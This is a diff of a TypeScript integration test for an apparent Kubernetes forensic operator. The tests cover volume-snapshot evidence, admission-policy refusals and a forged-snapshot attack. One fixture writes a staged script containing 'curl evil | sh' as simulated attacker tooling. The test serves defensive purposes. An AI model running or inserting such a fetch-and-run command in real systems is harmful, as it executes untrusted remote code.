@@ -1,4 +1,5 @@
 import {
+  AdmissionregistrationV1Api,
   AuthorizationV1Api,
   CoreV1Api,
   CustomObjectsApi,
@@ -56,9 +57,13 @@ describe('volume snapshots of the suspect pod', () => {
     { name: 'tmp', emptyDir: {} },
   ];
 
-  const claim = async (name: string, storageClassName: string): Promise<V1PersistentVolumeClaim> =>
+  const claim = async (
+    name: string,
+    storageClassName: string,
+    namespace = 'shop',
+  ): Promise<V1PersistentVolumeClaim> =>
     core.createNamespacedPersistentVolumeClaim({
-      namespace: 'shop',
+      namespace,
       body: {
         metadata: { name },
         spec: {
@@ -68,8 +73,18 @@ describe('volume snapshots of the suspect pod', () => {
         },
       },
     });
-  const caseSpec = (pod: string) => ({
-    target: { namespace: 'shop', pod },
+  const startOperator = async () =>
+    startCaseController(await operatorKubeConfig(cluster), {
+      collection: {
+        mode: 'inline',
+        evidence: { credentials: { accessKeyId: minio.accessKey, secretAccessKey: minio.secretKey } },
+        inline: { hostReferencePid: process.pid, runtimeRoots: { runc: c.stateRoot } },
+        snapshotterRoots: c.layerRoots,
+        pollMs: 500,
+      },
+    });
+  const caseSpec = (pod: string, namespace = 'shop') => ({
+    target: { namespace, pod },
     reason: 'test: tools staged on a volume',
     evidence: {
       store: { type: 's3', bucket: minio.bucket, prefix: 'amber/', endpoint: minio.endpoint },
@@ -107,21 +122,83 @@ describe('volume snapshots of the suspect pod', () => {
     const pv = await core.readPersistentVolume({ name: bound.spec!.volumeName! });
     writeFileSync(join(csi.volumeDir(pv.spec!.csi!.volumeHandle), 'staged.sh'), 'curl evil | sh\n');
 
-    const operatorKc = await operatorKubeConfig(cluster);
-    ({ publicKeyPem } = await createSigningKeySecret(admin));
-    for (const pod of ['victim', 'victim-forged']) {
-      await createPod(admin, 'shop', pod, node, { volumes });
-      await markRunning(admin, 'shop', pod, `runc://${c.id}`);
-    }
-    operator = await startCaseController(operatorKc, {
-      collection: {
-        mode: 'inline',
-        evidence: { credentials: { accessKeyId: minio.accessKey, secretAccessKey: minio.secretKey } },
-        inline: { hostReferencePid: process.pid, runtimeRoots: { runc: c.stateRoot } },
-        snapshotterRoots: c.layerRoots,
-        pollMs: 500,
+    // A namespace where the API server refuses every VolumeSnapshot, as a filled quota or a
+    // cluster's own admission policy does; the policy is in force once a probe is refused.
+    await w.namespace('full');
+    const admission = admin.makeApiClient(AdmissionregistrationV1Api);
+    await admission.createValidatingAdmissionPolicy({
+      body: {
+        metadata: { name: 'no-snapshots' },
+        spec: {
+          failurePolicy: 'Fail',
+          matchConstraints: {
+            resourceRules: [
+              {
+                apiGroups: ['snapshot.storage.k8s.io'],
+                apiVersions: ['v1'],
+                operations: ['CREATE'],
+                resources: ['volumesnapshots'],
+              },
+            ],
+          },
+          validations: [{ expression: 'false', message: 'no room for another snapshot here' }],
+        },
       },
     });
+    await admission.createValidatingAdmissionPolicyBinding({
+      body: {
+        metadata: { name: 'no-snapshots' },
+        spec: {
+          policyName: 'no-snapshots',
+          validationActions: ['Deny'],
+          matchResources: {
+            namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': 'full' } },
+          },
+        },
+      },
+    });
+    const probe = (i: number) =>
+      custom
+        .createNamespacedCustomObject({
+          ...SNAPSHOTS,
+          namespace: 'full',
+          body: {
+            apiVersion: 'snapshot.storage.k8s.io/v1',
+            kind: 'VolumeSnapshot',
+            metadata: { name: `probe-${i}` },
+            spec: { source: { persistentVolumeClaimName: 'none' } },
+          },
+        })
+        .then(
+          () => 'created',
+          (err: unknown) => String(err),
+        );
+    let attempt = 0;
+    await waitFor(
+      'the admission policy refuses snapshots in namespace full',
+      () => probe(attempt++),
+      (r) => r.includes('no room for another snapshot'),
+      30_000,
+    );
+    await claim('data', csi.storageClass, 'full');
+    await waitFor(
+      `claim full/data Bound\n${csi.logTails()}`,
+      () => core.readNamespacedPersistentVolumeClaim({ namespace: 'full', name: 'data' }),
+      (p) => p.status?.phase === 'Bound',
+      60_000,
+    );
+
+    await operatorKubeConfig(cluster); // the operator namespace and RBAC, before the Secret
+    ({ publicKeyPem } = await createSigningKeySecret(admin));
+    for (const [namespace, pod] of [
+      ['shop', 'victim'],
+      ['shop', 'victim-forged'],
+      ['full', 'victim-quota'],
+    ] as const) {
+      await createPod(admin, namespace, pod, node, { volumes });
+      await markRunning(admin, namespace, pod, `runc://${c.id}`);
+    }
+    operator = await startOperator();
   }, 180_000);
   afterAll(async () => {
     await operator?.stop();
@@ -135,7 +212,7 @@ describe('volume snapshots of the suspect pod', () => {
     await w.createCase('case-vol', caseSpec('victim'));
     const kase = (await w.waitForPhase('case-vol', 'Sealed', 120_000)) as SnapshotCase;
     const records = kase.status?.volumeSnapshots ?? [];
-    const name = snapshotName('case-vol', 'data');
+    const name = snapshotName('case-vol', kase.metadata.uid!, 'data');
     expect(records).toEqual([
       expect.objectContaining({
         volume: 'data',
@@ -234,10 +311,13 @@ describe('volume snapshots of the suspect pod', () => {
   });
 
   it('attack: a VolumeSnapshot planted under the case’s name is never taken for the evidence', async () => {
-    // Someone with rights in the namespace guesses the deterministic name and plants a snapshot
-    // of the same claim, through the same class, claiming to be the case's: only the UID of the
-    // case (not known before it exists) is wrong.
-    const name = snapshotName('case-forged', 'data');
+    // The name hashes in the case's UID, so it cannot be taken before the case exists. Someone
+    // who can read the case plants one the moment it does (the operator is stopped here to
+    // win that race for sure): same claim, same class, the case's label, a guessed UID.
+    await operator.stop();
+    await w.createCase('case-forged', caseSpec('victim-forged'));
+    const uid = (await w.getCase('case-forged')).metadata.uid!;
+    const name = snapshotName('case-forged', uid, 'data');
     await custom.createNamespacedCustomObject({
       ...SNAPSHOTS,
       namespace: 'shop',
@@ -253,7 +333,7 @@ describe('volume snapshots of the suspect pod', () => {
       },
     });
     const planted = await readSnapshot(name);
-    await w.createCase('case-forged', caseSpec('victim-forged'));
+    operator = await startOperator();
     const kase = (await w.waitForPhase('case-forged', 'Sealed', 120_000)) as SnapshotCase;
     expect(kase.status?.volumeSnapshots?.[0]).toMatchObject({
       claim: 'data',
@@ -266,5 +346,16 @@ describe('volume snapshots of the suspect pod', () => {
     expect((await readSnapshot(name)).metadata?.uid).toBe(planted.metadata?.uid);
     const timeline = kase.status?.timeline ?? [];
     expect(timeline).toContainEqual(expect.objectContaining({ action: 'SnapshotVolume', outcome: 'Failed' }));
+  });
+
+  it('a snapshot the API server refuses (a quota filled, an admission policy) is recorded, and the case is still contained, collected and sealed', async () => {
+    await w.createCase('case-quota', caseSpec('victim-quota', 'full'));
+    const kase = (await w.waitForPhase('case-quota', 'Sealed', 120_000)) as SnapshotCase;
+    expect(kase.status?.volumeSnapshots?.[0]).toMatchObject({
+      claim: 'data',
+      phase: 'Failed',
+      message: expect.stringMatching(/the API server refused VolumeSnapshot .*no room for another snapshot/),
+    });
+    expect(kase.status?.conditions?.find((x) => x.type === 'Contained')?.status).toBe('True');
   });
 });
